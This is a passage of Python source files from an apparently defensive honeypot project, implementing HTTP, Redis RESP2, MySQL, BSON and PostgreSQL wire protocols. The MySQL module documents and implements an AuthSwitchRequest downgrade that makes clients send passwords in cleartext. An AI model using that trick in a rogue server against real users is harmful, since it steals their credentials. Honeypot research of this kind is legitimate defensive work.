    if isinstance(body, str):
        body = body.encode()
    reason = _REASONS.get(status, "Unknown")
    lines = [f"HTTP/1.1 {status} {reason}",
             f"Content-Type: {content_type}",
             f"Content-Length: {len(body)}"]
    for name, value in (headers or {}).items():
        lines.append(f"{name}: {value}")
    head = "\r\n".join(lines) + "\r\n\r\n"
    return head.encode() + body


@dataclass
class HttpRequestParser:
    """Incremental parser for a stream of HTTP requests."""

    _buffer: bytearray = field(default_factory=bytearray)

    def feed(self, data: bytes) -> list[HttpRequest]:
        """Add bytes; return completed requests."""
        self._buffer += data
        requests = []
        while True:
            request = self._try_parse()
            if request is None:
                return requests
            requests.append(request)

    def _try_parse(self) -> HttpRequest | None:
        head_end = self._buffer.find(b"\r\n\r\n")
        if head_end < 0:
            if len(self._buffer) > _MAX_HEAD:
                raise ProtocolError("HTTP header section too large")
            return None
        head = bytes(self._buffer[:head_end]).decode("latin-1")
        lines = head.split("\r\n")
        request_line = lines[0].split(" ")
        if len(request_line) != 3:
            raise ProtocolError(f"malformed request line: {lines[0]!r}")
        method, target, version = request_line
        if method.upper() not in _METHODS:
            raise ProtocolError(f"unsupported HTTP method {method!r}")
        if not version.startswith("HTTP/1."):
            raise ProtocolError(f"unsupported HTTP version {version!r}")
        headers: dict[str, str] = {}
        for line in lines[1:]:
            if ":" not in line:
                raise ProtocolError(f"malformed header line: {line!r}")
            name, _, value = line.partition(":")
            headers[name.strip().lower()] = value.strip()
        try:
            content_length = int(headers.get("content-length", "0"))
        except ValueError as exc:
            raise ProtocolError("invalid Content-Length") from exc
        if not 0 <= content_length <= _MAX_BODY:
            raise ProtocolError(f"invalid Content-Length {content_length}")
        total = head_end + 4 + content_length
        if len(self._buffer) < total:
            return None
        body = bytes(self._buffer[head_end + 4:total])
        del self._buffer[:total]
        return HttpRequest(method.upper(), target, version, headers, body)


def parse_response(data: bytes) -> HttpResponse:
    """Parse a complete HTTP response (client side)."""
    head_end = data.find(b"\r\n\r\n")
    if head_end < 0:
        raise ProtocolError("incomplete HTTP response")
    head = data[:head_end].decode("latin-1")
    lines = head.split("\r\n")
    status_line = lines[0].split(" ", 2)
    if len(status_line) < 2 or not status_line[0].startswith("HTTP/1."):
        raise ProtocolError(f"malformed status line: {lines[0]!r}")
    try:
        status = int(status_line[1])
    except ValueError as exc:
        raise ProtocolError("non-numeric status code") from exc
    reason = status_line[2] if len(status_line) == 3 else ""
    headers: dict[str, str] = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    body = data[head_end + 4:]
    declared = headers.get("content-length")
    if declared is not None and len(body) < int(declared):
        raise ProtocolError("truncated HTTP response body")
    return HttpResponse(status, reason, headers, body)
