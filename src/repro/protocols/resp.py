"""Redis RESP2 protocol (REdis Serialization Protocol).

Implements the five RESP2 frame types plus the *inline command* form that
``redis-cli``-style tools and many attack scripts use.  The streaming
:class:`RespParser` accumulates bytes and yields complete values, so both
the honeypot server and the attacker client can run over any transport.

Wire format reference: https://redis.io/docs/reference/protocol-spec/
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.protocols.errors import ProtocolError

_CRLF = b"\r\n"

#: Safety bound on bulk-string / array sizes accepted from the wire.
MAX_BULK_LENGTH = 16 * 1024 * 1024
MAX_ARRAY_LENGTH = 1 << 20


@dataclass(frozen=True)
class SimpleString:
    """A ``+OK``-style simple string reply."""

    value: str


@dataclass(frozen=True)
class Error:
    """A ``-ERR ...`` error reply."""

    message: str


def encode(value: object) -> bytes:
    """Encode a Python value as a RESP2 frame.

    Mapping:

    * :class:`SimpleString` -> simple string (``+``)
    * :class:`Error` -> error (``-``)
    * :class:`int` -> integer (``:``)
    * :class:`bytes` / :class:`str` -> bulk string (``$``)
    * ``None`` -> null bulk string (``$-1``)
    * :class:`list` / :class:`tuple` -> array (``*``), recursively

    Raises
    ------
    TypeError
        For unsupported value types.
    """
    if isinstance(value, SimpleString):
        if "\r" in value.value or "\n" in value.value:
            raise TypeError("simple strings cannot contain CR/LF")
        return b"+" + value.value.encode() + _CRLF
    if isinstance(value, Error):
        return b"-" + value.message.encode() + _CRLF
    if isinstance(value, bool):
        raise TypeError("RESP2 has no boolean type")
    if isinstance(value, int):
        return b":" + str(value).encode() + _CRLF
    if isinstance(value, str):
        value = value.encode()
    if isinstance(value, bytes):
        return b"$" + str(len(value)).encode() + _CRLF + value + _CRLF
    if value is None:
        return b"$-1" + _CRLF
    if isinstance(value, (list, tuple)):
        out = bytearray(b"*" + str(len(value)).encode() + _CRLF)
        for item in value:
            out += encode(item)
        return bytes(out)
    raise TypeError(f"cannot encode {type(value).__name__} as RESP")


def encode_command(*args: str | bytes) -> bytes:
    """Encode a client command as an array of bulk strings.

    >>> encode_command("GET", "key")
    b'*2\\r\\n$3\\r\\nGET\\r\\n$3\\r\\nkey\\r\\n'
    """
    if not args:
        raise ValueError("a command needs at least one argument")
    return encode([a.encode() if isinstance(a, str) else a for a in args])


def encode_inline_command(line: str) -> bytes:
    """Encode a command in the inline (telnet-friendly) form."""
    if "\r" in line or "\n" in line:
        raise ValueError("inline commands cannot contain CR/LF")
    return line.encode() + _CRLF


@dataclass
class RespParser:
    """Incremental RESP2 parser.

    Feed raw bytes with :meth:`feed`; complete values come back from
    :meth:`messages`.  Non-RESP lines (no type marker) are parsed as
    inline commands and yielded as lists of ``bytes`` tokens; an empty
    inline line yields nothing, per the Redis server behavior.

    Raises :class:`ProtocolError` on malformed frames (bad lengths,
    over-limit sizes); after an error, the parser state is undefined and
    the connection should be dropped or the parser recreated.
    """

    _buffer: bytearray = field(default_factory=bytearray)

    def feed(self, data: bytes) -> list[object]:
        """Add ``data`` and return all values completed by it."""
        self._buffer += data
        values = []
        while True:
            result = self._try_parse(0)
            if result is None:
                return values
            value, consumed = result
            del self._buffer[:consumed]
            if value is not _EMPTY_INLINE:
                values.append(value)

    def pending(self) -> int:
        """Number of buffered bytes not yet parsed into a value."""
        return len(self._buffer)

    def take_pending(self) -> bytes:
        """Remove and return any buffered, unparsed bytes.

        Honeypots call this at disconnect time to log trailing garbage
        (e.g. a JDWP handshake, which has no line terminator)."""
        pending = bytes(self._buffer)
        self._buffer.clear()
        return pending

    def _try_parse(self, start: int) -> tuple[object, int] | None:
        """Parse one value at offset ``start``.

        Returns ``(value, end_offset)`` or ``None`` if more bytes are
        needed.
        """
        if start >= len(self._buffer):
            return None
        marker = self._buffer[start:start + 1]
        if marker in (b"+", b"-", b":", b"$", b"*"):
            return self._parse_typed(marker, start)
        return self._parse_inline(start)

    def _parse_typed(self, marker: bytes,
                     start: int) -> tuple[object, int] | None:
        line_end = self._buffer.find(_CRLF, start)
        if line_end < 0:
            return None
        line = bytes(self._buffer[start + 1:line_end])
        after = line_end + 2
        if marker == b"+":
            return SimpleString(line.decode("utf-8", "replace")), after
        if marker == b"-":
            return Error(line.decode("utf-8", "replace")), after
        if marker == b":":
            return _parse_int(line), after
        if marker == b"$":
            length = _parse_int(line)
            if length == -1:
                return None, after
            if not 0 <= length <= MAX_BULK_LENGTH:
                raise ProtocolError(f"invalid bulk length {length}")
            end = after + length + 2
            if len(self._buffer) < end:
                return None
            if self._buffer[end - 2:end] != _CRLF:
                raise ProtocolError("bulk string missing CRLF terminator")
            return bytes(self._buffer[after:after + length]), end
        # marker == b"*"
        count = _parse_int(line)
        if count == -1:
            return None, after
        if not 0 <= count <= MAX_ARRAY_LENGTH:
            raise ProtocolError(f"invalid array length {count}")
        items = []
        offset = after
        for _ in range(count):
            result = self._try_parse(offset)
            if result is None:
                return None
            item, offset = result
            items.append(item)
        return items, offset

    def _parse_inline(self, start: int) -> tuple[object, int] | None:
        line_end = self._buffer.find(b"\n", start)
        if line_end < 0:
            if len(self._buffer) - start > MAX_BULK_LENGTH:
                raise ProtocolError("inline command too long")
            return None
        raw = bytes(self._buffer[start:line_end]).rstrip(b"\r")
        tokens = raw.split()
        if not tokens:
            return _EMPTY_INLINE, line_end + 1
        return tokens, line_end + 1


class _EmptyInline:
    """Sentinel for blank inline lines (silently skipped)."""


_EMPTY_INLINE = _EmptyInline()


def _parse_int(line: bytes) -> int:
    try:
        return int(line)
    except ValueError as exc:
        raise ProtocolError(f"invalid RESP integer {line!r}") from exc


def command_tokens(value: object) -> list[bytes]:
    """Normalize a parsed client command into a list of ``bytes`` tokens.

    Accepts both the array-of-bulk-strings and inline forms; raises
    :class:`ProtocolError` for anything else (e.g. a client sending a
    bare integer frame).
    """
    if isinstance(value, list) and all(
            isinstance(item, bytes) for item in value):
        return value
    raise ProtocolError(f"not a RESP command: {value!r}")
