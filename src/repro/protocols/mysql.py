"""MySQL client/server protocol.

Implements the connection-phase subset used by the low-interaction MySQL
honeypot and its attackers: packet framing, the ``HandshakeV10`` greeting,
``HandshakeResponse41`` login packets, the ``AuthSwitchRequest`` trick that
Qeeqbox-style honeypots use to elicit *cleartext* passwords, and OK / ERR
terminal packets.

Wire format reference:
https://dev.mysql.com/doc/dev/mysql-server/latest/page_protocol_connection_phase.html
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

from repro.protocols.errors import ProtocolError

# Capability flags (subset).
CLIENT_LONG_PASSWORD = 0x00000001
CLIENT_PROTOCOL_41 = 0x00000200
CLIENT_CONNECT_WITH_DB = 0x00000008
CLIENT_SECURE_CONNECTION = 0x00008000
CLIENT_PLUGIN_AUTH = 0x00080000

#: Default server capabilities advertised by the honeypot.
SERVER_CAPABILITIES = (CLIENT_LONG_PASSWORD | CLIENT_PROTOCOL_41
                       | CLIENT_CONNECT_WITH_DB | CLIENT_SECURE_CONNECTION
                       | CLIENT_PLUGIN_AUTH)

NATIVE_PASSWORD_PLUGIN = "mysql_native_password"
CLEAR_PASSWORD_PLUGIN = "mysql_clear_password"

_MAX_PACKET = 16 * 1024 * 1024 - 1

#: MySQL error code for access-denied.
ER_ACCESS_DENIED = 1045


def frame(payload: bytes, sequence_id: int) -> bytes:
    """Wrap ``payload`` in the 4-byte MySQL packet header."""
    if len(payload) > _MAX_PACKET:
        raise ValueError("payload exceeds maximum MySQL packet size")
    if not 0 <= sequence_id <= 255:
        raise ValueError("sequence id must fit in one byte")
    return struct.pack("<I", len(payload))[:3] + bytes([sequence_id]) + payload


@dataclass
class PacketReader:
    """Incremental splitter for the MySQL packet stream."""

    _buffer: bytearray = field(default_factory=bytearray)

    def feed(self, data: bytes) -> list[tuple[int, bytes]]:
        """Add bytes; return completed ``(sequence_id, payload)`` packets."""
        self._buffer += data
        packets = []
        while len(self._buffer) >= 4:
            length = int.from_bytes(self._buffer[:3], "little")
            if length > _MAX_PACKET:
                raise ProtocolError(f"oversized MySQL packet ({length})")
            if len(self._buffer) < 4 + length:
                break
            sequence_id = self._buffer[3]
            payload = bytes(self._buffer[4:4 + length])
            del self._buffer[:4 + length]
            packets.append((sequence_id, payload))
        return packets


@dataclass(frozen=True)
class HandshakeV10:
    """Server greeting packet."""

    server_version: str
    thread_id: int
    auth_plugin_data: bytes
    capabilities: int
    character_set: int
    status_flags: int
    auth_plugin_name: str


def build_handshake_v10(server_version: str, thread_id: int,
                        auth_plugin_data: bytes,
                        capabilities: int = SERVER_CAPABILITIES,
                        character_set: int = 0xFF,
                        status_flags: int = 0x0002,
                        auth_plugin_name: str = NATIVE_PASSWORD_PLUGIN,
                        ) -> bytes:
    """Encode a HandshakeV10 payload (unframed)."""
    if len(auth_plugin_data) < 8:
        raise ValueError("auth plugin data must be at least 8 bytes")
    part1, part2 = auth_plugin_data[:8], auth_plugin_data[8:]
    # Part 2 is always NUL-terminated and padded to at least 13 bytes.
    part2 = part2 + b"\x00" * max(0, 13 - len(part2) - 1) + b"\x00"
    payload = bytearray()
    payload += b"\x0a"
    payload += server_version.encode() + b"\x00"
    payload += struct.pack("<I", thread_id)
    payload += part1 + b"\x00"
    payload += struct.pack("<H", capabilities & 0xFFFF)
    payload += bytes([character_set])
    payload += struct.pack("<H", status_flags)
    payload += struct.pack("<H", (capabilities >> 16) & 0xFFFF)
    payload += bytes([len(auth_plugin_data) + 1
                      if capabilities & CLIENT_PLUGIN_AUTH else 0])
    payload += b"\x00" * 10
    payload += part2
    if capabilities & CLIENT_PLUGIN_AUTH:
        payload += auth_plugin_name.encode() + b"\x00"
    return bytes(payload)


def parse_handshake_v10(payload: bytes) -> HandshakeV10:
    """Decode a HandshakeV10 payload."""
    if not payload or payload[0] != 0x0A:
        raise ProtocolError("not a HandshakeV10 packet")
    end = payload.find(b"\x00", 1)
    if end < 0:
        raise ProtocolError("unterminated server version")
    server_version = payload[1:end].decode("utf-8", "replace")
    offset = end + 1
    try:
        (thread_id,) = struct.unpack_from("<I", payload, offset)
        offset += 4
        part1 = payload[offset:offset + 8]
        offset += 9  # 8 bytes of salt + filler
        (cap_low,) = struct.unpack_from("<H", payload, offset)
        offset += 2
        character_set = payload[offset]
        offset += 1
        (status_flags,) = struct.unpack_from("<H", payload, offset)
        offset += 2
        (cap_high,) = struct.unpack_from("<H", payload, offset)
        offset += 2
        auth_data_len = payload[offset]
        offset += 1 + 10  # length byte + reserved
    except (struct.error, IndexError) as exc:
        raise ProtocolError("truncated HandshakeV10") from exc
    capabilities = cap_low | (cap_high << 16)
    part2_len = max(13, auth_data_len - 8)
    part2 = payload[offset:offset + part2_len].rstrip(b"\x00")
    offset += part2_len
    plugin_name = ""
    if capabilities & CLIENT_PLUGIN_AUTH:
        end = payload.find(b"\x00", offset)
        plugin_name = payload[offset:end if end >= 0 else len(payload)
                              ].decode("utf-8", "replace")
    return HandshakeV10(server_version, thread_id, part1 + part2,
                        capabilities, character_set, status_flags,
                        plugin_name)


@dataclass(frozen=True)
class HandshakeResponse41:
    """Client login packet."""

    capabilities: int
    max_packet_size: int
    character_set: int
    username: str
    auth_response: bytes
    database: str | None
    auth_plugin_name: str | None


def build_handshake_response(username: str, auth_response: bytes,
                             database: str | None = None,
                             auth_plugin_name: str = NATIVE_PASSWORD_PLUGIN,
                             capabilities: int | None = None,
                             max_packet_size: int = 16 * 1024 * 1024,
                             character_set: int = 0xFF) -> bytes:
    """Encode a HandshakeResponse41 payload (unframed)."""
    if capabilities is None:
        capabilities = (CLIENT_PROTOCOL_41 | CLIENT_SECURE_CONNECTION
                        | CLIENT_PLUGIN_AUTH | CLIENT_LONG_PASSWORD)
        if database is not None:
            capabilities |= CLIENT_CONNECT_WITH_DB
    payload = bytearray()
    payload += struct.pack("<I", capabilities)
    payload += struct.pack("<I", max_packet_size)
    payload += bytes([character_set])
    payload += b"\x00" * 23
    payload += username.encode() + b"\x00"
    if len(auth_response) > 255:
        raise ValueError("auth response too long for 1-byte length prefix")
    payload += bytes([len(auth_response)]) + auth_response
    if capabilities & CLIENT_CONNECT_WITH_DB and database is not None:
        payload += database.encode() + b"\x00"
    if capabilities & CLIENT_PLUGIN_AUTH:
        payload += auth_plugin_name.encode() + b"\x00"
    return bytes(payload)


def parse_handshake_response(payload: bytes) -> HandshakeResponse41:
    """Decode a HandshakeResponse41 payload."""
    try:
        capabilities, max_packet, charset = struct.unpack_from(
            "<IIB", payload, 0)
    except struct.error as exc:
        raise ProtocolError("truncated HandshakeResponse41") from exc
    if not capabilities & CLIENT_PROTOCOL_41:
        raise ProtocolError("client does not speak protocol 4.1")
    offset = 4 + 4 + 1 + 23
    end = payload.find(b"\x00", offset)
    if end < 0:
        raise ProtocolError("unterminated username")
    username = payload[offset:end].decode("utf-8", "replace")
    offset = end + 1
    if offset >= len(payload):
        raise ProtocolError("missing auth response")
    auth_len = payload[offset]
    offset += 1
    auth_response = payload[offset:offset + auth_len]
    if len(auth_response) != auth_len:
        raise ProtocolError("truncated auth response")
    offset += auth_len
    database = None
    if capabilities & CLIENT_CONNECT_WITH_DB and offset < len(payload):
        end = payload.find(b"\x00", offset)
        if end < 0:
            raise ProtocolError("unterminated database name")
        database = payload[offset:end].decode("utf-8", "replace")
        offset = end + 1
    plugin_name = None
    if capabilities & CLIENT_PLUGIN_AUTH and offset < len(payload):
        end = payload.find(b"\x00", offset)
        plugin_name = payload[offset:end if end >= 0 else len(payload)
                              ].decode("utf-8", "replace")
    return HandshakeResponse41(capabilities, max_packet, charset, username,
                               auth_response, database, plugin_name)


def build_auth_switch_request(plugin_name: str,
                              plugin_data: bytes = b"") -> bytes:
    """Encode an AuthSwitchRequest (0xFE) payload.

    Switching to ``mysql_clear_password`` makes a cooperating client send
    its password in cleartext -- the standard honeypot credential-capture
    trick.
    """
    return b"\xfe" + plugin_name.encode() + b"\x00" + plugin_data


def parse_auth_switch_request(payload: bytes) -> tuple[str, bytes]:
    """Decode an AuthSwitchRequest payload into (plugin name, data)."""
    if not payload or payload[0] != 0xFE:
        raise ProtocolError("not an AuthSwitchRequest")
    end = payload.find(b"\x00", 1)
    if end < 0:
        raise ProtocolError("unterminated plugin name")
    return payload[1:end].decode("utf-8", "replace"), payload[end + 1:]


def build_clear_password_response(password: str) -> bytes:
    """Encode the client's cleartext-password AuthSwitchResponse."""
    return password.encode() + b"\x00"


def parse_clear_password(payload: bytes) -> str:
    """Decode a cleartext-password AuthSwitchResponse."""
    return payload.rstrip(b"\x00").decode("utf-8", "replace")


def build_ok(affected_rows: int = 0) -> bytes:
    """Encode an OK packet payload."""
    return (b"\x00" + _lenenc_int(affected_rows) + _lenenc_int(0)
            + struct.pack("<HH", 0x0002, 0))


def build_err(code: int, sql_state: str, message: str) -> bytes:
    """Encode an ERR packet payload."""
    if len(sql_state) != 5:
        raise ValueError("SQL state must be exactly 5 characters")
    return (b"\xff" + struct.pack("<H", code) + b"#" + sql_state.encode()
            + message.encode())


@dataclass(frozen=True)
class ErrPacket:
    """Decoded ERR packet."""

    code: int
    sql_state: str
    message: str


def parse_err(payload: bytes) -> ErrPacket:
    """Decode an ERR packet payload."""
    if not payload or payload[0] != 0xFF:
        raise ProtocolError("not an ERR packet")
    if len(payload) < 9 or payload[3:4] != b"#":
        raise ProtocolError("malformed ERR packet")
    (code,) = struct.unpack_from("<H", payload, 1)
    sql_state = payload[4:9].decode("ascii", "replace")
    message = payload[9:].decode("utf-8", "replace")
    return ErrPacket(code, sql_state, message)


def is_ok(payload: bytes) -> bool:
    """Whether ``payload`` is an OK packet."""
    return bool(payload) and payload[0] == 0x00


def is_err(payload: bytes) -> bool:
    """Whether ``payload`` is an ERR packet."""
    return bool(payload) and payload[0] == 0xFF


def is_auth_switch(payload: bytes) -> bool:
    """Whether ``payload`` is an AuthSwitchRequest."""
    return bool(payload) and payload[0] == 0xFE


# Command-phase opcodes (COM_*).
COM_QUIT = 0x01
COM_QUERY = 0x03
COM_PING = 0x0E


def build_com_query(sql: str) -> bytes:
    """Encode a COM_QUERY command payload."""
    return bytes([COM_QUERY]) + sql.encode()


def parse_command(payload: bytes) -> tuple[int, bytes]:
    """Split a command-phase packet into (opcode, argument)."""
    if not payload:
        raise ProtocolError("empty command packet")
    return payload[0], payload[1:]


def build_column_definition(name: str, sequence_id: int) -> bytes:
    """Encode a ColumnDefinition41 packet (text protocol, VARCHAR)."""
    payload = bytearray()
    for part in (b"def", b"", b"", b"", name.encode(), b""):
        payload += _lenenc_str(part)
    payload += bytes([0x0C])               # fixed-length fields marker
    payload += struct.pack("<H", 0xFF)     # charset
    payload += struct.pack("<I", 255)      # column length
    payload += bytes([0xFD])               # type: VAR_STRING
    payload += struct.pack("<H", 0)        # flags
    payload += bytes([0])                  # decimals
    payload += b"\x00\x00"                 # filler
    return frame(bytes(payload), sequence_id)


def build_text_row(values: list[str | None], sequence_id: int) -> bytes:
    """Encode one text-protocol result row."""
    payload = bytearray()
    for value in values:
        if value is None:
            payload += b"\xfb"
        else:
            payload += _lenenc_str(value.encode())
    return frame(bytes(payload), sequence_id)


def build_eof(sequence_id: int) -> bytes:
    """Encode an EOF packet (classic, non-deprecated form)."""
    return frame(b"\xfe\x00\x00\x02\x00", sequence_id)


def build_text_resultset(columns: list[str],
                         rows: list[list[str | None]],
                         first_sequence_id: int = 1) -> bytes:
    """Encode a complete text-protocol result set.

    Column count packet, column definitions, EOF, rows, EOF -- the
    classic (pre-CLIENT_DEPRECATE_EOF) layout.
    """
    sequence_id = first_sequence_id
    out = bytearray(frame(_lenenc_int(len(columns)), sequence_id))
    sequence_id += 1
    for name in columns:
        out += build_column_definition(name, sequence_id)
        sequence_id += 1
    out += build_eof(sequence_id)
    sequence_id += 1
    for row in rows:
        out += build_text_row(row, sequence_id)
        sequence_id += 1
    out += build_eof(sequence_id)
    return bytes(out)


def parse_text_resultset(packets: list[tuple[int, bytes]]
                         ) -> tuple[list[str], list[list[str | None]]]:
    """Decode a text-protocol result set from its framed packets."""
    if not packets:
        raise ProtocolError("empty result set")
    count, _ = _read_lenenc_int(packets[0][1], 0)
    columns = []
    index = 1
    for _ in range(count):
        columns.append(_parse_column_name(packets[index][1]))
        index += 1
    if packets[index][1][:1] != b"\xfe":
        raise ProtocolError("expected EOF after column definitions")
    index += 1
    rows = []
    while index < len(packets) and packets[index][1][:1] != b"\xfe":
        rows.append(_parse_text_row(packets[index][1], count))
        index += 1
    return columns, rows


def _parse_column_name(payload: bytes) -> str:
    offset = 0
    fields = []
    for _ in range(5):
        value, offset = _read_lenenc_str(payload, offset)
        fields.append(value)
    return fields[4].decode("utf-8", "replace")


def _parse_text_row(payload: bytes, count: int) -> list[str | None]:
    values: list[str | None] = []
    offset = 0
    for _ in range(count):
        if payload[offset:offset + 1] == b"\xfb":
            values.append(None)
            offset += 1
        else:
            raw, offset = _read_lenenc_str(payload, offset)
            values.append(raw.decode("utf-8", "replace"))
    return values


def _lenenc_str(value: bytes) -> bytes:
    return _lenenc_int(len(value)) + value


def _read_lenenc_int(payload: bytes, offset: int) -> tuple[int, int]:
    if offset >= len(payload):
        raise ProtocolError("truncated length-encoded integer")
    first = payload[offset]
    if first < 0xFB:
        return first, offset + 1
    if first == 0xFC:
        return int.from_bytes(payload[offset + 1:offset + 3],
                              "little"), offset + 3
    if first == 0xFD:
        return int.from_bytes(payload[offset + 1:offset + 4],
                              "little"), offset + 4
    if first == 0xFE:
        return int.from_bytes(payload[offset + 1:offset + 9],
                              "little"), offset + 9
    raise ProtocolError(f"invalid length-encoded integer {first:#x}")


def _read_lenenc_str(payload: bytes, offset: int) -> tuple[bytes, int]:
    length, offset = _read_lenenc_int(payload, offset)
    end = offset + length
    if end > len(payload):
        raise ProtocolError("truncated length-encoded string")
    return payload[offset:end], end


def _lenenc_int(value: int) -> bytes:
    """Encode a length-encoded integer."""
    if value < 0:
        raise ValueError("length-encoded integers are unsigned")
    if value < 0xFB:
        return bytes([value])
    if value <= 0xFFFF:
        return b"\xfc" + struct.pack("<H", value)
    if value <= 0xFFFFFF:
        return b"\xfd" + struct.pack("<I", value)[:3]
    return b"\xfe" + struct.pack("<Q", value)
