"""BSON (Binary JSON) document codec.

Implements the element types needed by the MongoDB wire protocol and the
in-process MongoDB engine: double, string, embedded document, array,
binary, ObjectId, boolean, UTC datetime, null, int32 and int64.

Wire format reference: https://bsonspec.org/spec.html
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone

from repro.protocols.errors import ProtocolError

_INT32_MIN, _INT32_MAX = -(1 << 31), (1 << 31) - 1
_INT64_MIN, _INT64_MAX = -(1 << 63), (1 << 63) - 1
_MAX_DOCUMENT = 16 * 1024 * 1024
_EPOCH = datetime(1970, 1, 1, tzinfo=timezone.utc)


def _datetime_to_millis(value: datetime) -> int:
    """Milliseconds since the epoch, computed in exact integer math.

    ``value.timestamp() * 1000`` goes through a float and can be off by
    one millisecond for large epochs; timedelta arithmetic never loses
    a microsecond.  Naive datetimes keep their historical local-time
    interpretation (same as ``timestamp()``).
    """
    if value.tzinfo is None:
        value = value.astimezone()
    delta = value - _EPOCH
    return (delta.days * 86_400_000 + delta.seconds * 1_000
            + delta.microseconds // 1_000)


def _millis_to_datetime(millis: int) -> datetime:
    """Inverse of :func:`_datetime_to_millis`, also in integer math."""
    try:
        return _EPOCH + timedelta(milliseconds=millis)
    except OverflowError as exc:
        raise ProtocolError(
            f"BSON datetime out of range: {millis}") from exc


@dataclass(frozen=True)
class ObjectId:
    """A 12-byte MongoDB ObjectId."""

    value: bytes

    def __post_init__(self) -> None:
        if len(self.value) != 12:
            raise ValueError("ObjectId must be exactly 12 bytes")

    @classmethod
    def from_counter(cls, counter: int) -> "ObjectId":
        """Build a deterministic ObjectId from an integer counter."""
        return cls(counter.to_bytes(12, "big"))

    def hex(self) -> str:
        """Hexadecimal representation."""
        return self.value.hex()


def encode_document(document: dict) -> bytes:
    """Encode ``document`` as BSON.

    Raises
    ------
    TypeError
        For unsupported value types or non-string keys.
    """
    body = bytearray()
    for key, value in document.items():
        if not isinstance(key, str):
            raise TypeError(f"BSON keys must be strings, got {key!r}")
        body += _encode_element(key, value)
    body += b"\x00"
    return struct.pack("<i", len(body) + 4) + bytes(body)


def _encode_element(key: str, value: object) -> bytes:
    name = key.encode() + b"\x00"
    if isinstance(value, bool):
        return b"\x08" + name + (b"\x01" if value else b"\x00")
    if isinstance(value, float):
        return b"\x01" + name + struct.pack("<d", value)
    if isinstance(value, str):
        encoded = value.encode() + b"\x00"
        return b"\x02" + name + struct.pack("<i", len(encoded)) + encoded
    if isinstance(value, dict):
        return b"\x03" + name + encode_document(value)
    if isinstance(value, (list, tuple)):
        indexed = {str(i): item for i, item in enumerate(value)}
        return b"\x04" + name + encode_document(indexed)
    if isinstance(value, bytes):
        return (b"\x05" + name + struct.pack("<i", len(value)) + b"\x00"
                + value)
    if isinstance(value, ObjectId):
        return b"\x07" + name + value.value
    if isinstance(value, datetime):
        millis = _datetime_to_millis(value)
        return b"\x09" + name + struct.pack("<q", millis)
    if value is None:
        return b"\x0a" + name
    if isinstance(value, int):
        if _INT32_MIN <= value <= _INT32_MAX:
            return b"\x10" + name + struct.pack("<i", value)
        if _INT64_MIN <= value <= _INT64_MAX:
            return b"\x12" + name + struct.pack("<q", value)
        raise TypeError(f"integer {value} exceeds int64 range")
    raise TypeError(f"cannot encode {type(value).__name__} as BSON")


def decode_document(data: bytes, offset: int = 0) -> tuple[dict, int]:
    """Decode one BSON document starting at ``offset``.

    Returns ``(document, end_offset)``.
    """
    if len(data) - offset < 5:
        raise ProtocolError("truncated BSON document")
    (length,) = struct.unpack_from("<i", data, offset)
    if not 5 <= length <= _MAX_DOCUMENT or offset + length > len(data):
        raise ProtocolError(f"invalid BSON document length {length}")
    end = offset + length
    if data[end - 1] != 0:
        raise ProtocolError("BSON document missing terminator")
    document: dict = {}
    position = offset + 4
    while position < end - 1:
        element_type = data[position]
        position += 1
        name_end = data.find(b"\x00", position, end)
        if name_end < 0:
            raise ProtocolError("unterminated BSON element name")
        key = data[position:name_end].decode("utf-8", "replace")
        position = name_end + 1
        value, position = _decode_value(element_type, data, position, end)
        document[key] = value
    return document, end


def _decode_value(element_type: int, data: bytes, position: int,
                  end: int) -> tuple[object, int]:
    if element_type == 0x01:
        _check(position + 8 <= end, "double")
        return struct.unpack_from("<d", data, position)[0], position + 8
    if element_type == 0x02:
        _check(position + 4 <= end, "string")
        (length,) = struct.unpack_from("<i", data, position)
        _check(1 <= length and position + 4 + length <= end, "string")
        raw = data[position + 4:position + 4 + length - 1]
        return raw.decode("utf-8", "replace"), position + 4 + length
    if element_type == 0x03:
        return decode_document(data, position)
    if element_type == 0x04:
        nested, position = decode_document(data, position)
        return [nested[key] for key in sorted(nested, key=_array_index)], \
            position
    if element_type == 0x05:
        _check(position + 5 <= end, "binary")
        (length,) = struct.unpack_from("<i", data, position)
        _check(0 <= length and position + 5 + length <= end, "binary")
        raw = data[position + 5:position + 5 + length]
        return raw, position + 5 + length
    if element_type == 0x07:
        _check(position + 12 <= end, "ObjectId")
        return ObjectId(data[position:position + 12]), position + 12
    if element_type == 0x08:
        _check(position + 1 <= end, "boolean")
        return data[position] != 0, position + 1
    if element_type == 0x09:
        _check(position + 8 <= end, "datetime")
        (millis,) = struct.unpack_from("<q", data, position)
        return _millis_to_datetime(millis), position + 8
    if element_type == 0x0A:
        return None, position
    if element_type == 0x10:
        _check(position + 4 <= end, "int32")
        return struct.unpack_from("<i", data, position)[0], position + 4
    if element_type == 0x12:
        _check(position + 8 <= end, "int64")
        return struct.unpack_from("<q", data, position)[0], position + 8
    raise ProtocolError(f"unsupported BSON element type {element_type:#x}")


def _check(condition: bool, what: str) -> None:
    if not condition:
        raise ProtocolError(f"truncated BSON {what}")


def _array_index(key: str) -> int:
    try:
        return int(key)
    except ValueError as exc:
        raise ProtocolError(f"non-numeric BSON array index {key!r}") from exc
