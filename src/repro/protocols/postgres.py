"""PostgreSQL frontend/backend protocol, version 3.0 (pgwire).

Implements the subset spoken between a PostgreSQL honeypot and its
attackers: startup / SSL negotiation, cleartext-password authentication,
the simple-query subprotocol (``Q`` messages answered with row
description / data rows / command completion), and error responses.

Wire format reference:
https://www.postgresql.org/docs/current/protocol-message-formats.html
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

from repro.protocols.errors import ProtocolError

#: Protocol version 3.0 as sent in the startup packet.
PROTOCOL_VERSION_3 = 196608
#: Magic version signalling an SSLRequest.
SSL_REQUEST_CODE = 80877103
#: Magic version signalling a GSSAPI encryption request.
GSSENC_REQUEST_CODE = 80877104
#: Magic version signalling a CancelRequest.
CANCEL_REQUEST_CODE = 80877102

#: Authentication subcodes (message type 'R').
AUTH_OK = 0
AUTH_CLEARTEXT_PASSWORD = 3
AUTH_MD5_PASSWORD = 5

_MAX_MESSAGE = 64 * 1024 * 1024
#: Sanity bound on startup packets (they only carry a few parameters).
_MAX_STARTUP = 16 * 1024


@dataclass(frozen=True)
class StartupMessage:
    """Client startup packet: protocol version + key/value parameters."""

    protocol_version: int
    parameters: dict[str, str]

    @property
